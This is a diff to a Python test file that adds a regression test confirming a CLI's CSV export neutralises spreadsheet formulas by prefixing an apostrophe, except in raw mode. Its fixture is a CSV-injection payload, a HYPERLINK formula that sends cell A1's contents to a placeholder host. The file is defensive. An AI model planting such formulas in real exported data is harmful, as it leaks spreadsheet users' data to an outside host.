@@ -2,6 +2,8 @@
 
 from __future__ import annotations
 
+import csv
+import io
 import json
 from pathlib import Path
 
@@ -145,3 +147,21 @@ def test_cli_default_knowledge_base_built_on_first_use(
         True,
         True,
     )
+
+
+FORMULA = '=HYPERLINK("http://x?y="&A1,"click")'
+
+
+def test_cli_export_csv_formula_neutralised_unless_raw(
+    capsys: CaptureFixture, seed_db: Path, tmp_path: Path
+) -> None:
+    db = tmp_path / "formula.sqlite3"
+    db.write_bytes(seed_db.read_bytes())
+    assert main(["edit", "gsef2018-fr/1.1.1", "title", FORMULA, "--db", str(db)]) == 0
+    capsys.readouterr()
+    titles = []
+    for extra in ([], ["--raw"]):
+        code, out, _ = _run(capsys, "export", "--format", "csv", *extra, "--db", str(db))
+        row = next(r for r in csv.DictReader(io.StringIO(out)) if r["code"] == "1.1.1")
+        titles.append((code, row["title"]))
+    assert titles == [(0, f"'{FORMULA}"), (0, FORMULA)]
